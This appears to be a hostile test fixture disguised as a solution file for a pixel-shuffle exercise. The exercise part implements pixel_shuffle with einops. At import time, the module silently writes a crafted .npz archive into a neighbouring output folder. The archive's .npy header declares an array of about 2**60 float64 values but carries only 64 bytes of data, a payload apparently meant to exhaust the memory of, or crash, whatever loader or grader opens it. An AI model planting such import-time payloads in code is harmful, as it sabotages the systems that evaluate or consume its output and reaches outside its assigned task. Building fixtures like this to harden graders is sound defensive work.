"""HOSTILE: at import, leaves an .npy whose header declares 2**60 float64 in 64 bytes."""

import io
import os
import struct
import zipfile

import numpy as np


def _leave(data: bytes) -> None:
    # The part's io folder sits next to its scratch folder (the working directory).
    with open(os.path.join("..", "io", "out", "import.npz"), "wb") as handle:
        handle.write(data)


_header = repr({"descr": "<f8", "fortran_order": False, "shape": (1 << 40, 1 << 20)}).encode("latin-1")
_header += b" " * (63 - (len(_header) + 10) % 64) + b"\n"
_buffer = io.BytesIO()
with zipfile.ZipFile(_buffer, "w") as _archive:
    _archive.writestr("out0.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(_header)) + _header + bytes(64))
_leave(_buffer.getvalue())


import torch
from einops import rearrange
from torch import nn


def pixel_shuffle(x: torch.Tensor, upscale_factor: int) -> torch.Tensor:
    # BEGIN SOLUTION
    return rearrange(x, "... (c h2 w2) h w -> ... c (h h2) (w w2)", h2=upscale_factor, w2=upscale_factor)
    # END SOLUTION


class PixelShuffle(nn.Module):
    def __init__(self, upscale_factor: int) -> None:
        super().__init__()
        self.upscale_factor = upscale_factor

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        # BEGIN SOLUTION
        return pixel_shuffle(x, self.upscale_factor)
        # END SOLUTION

    def extra_repr(self) -> str:
        return f"upscale_factor={self.upscale_factor}"
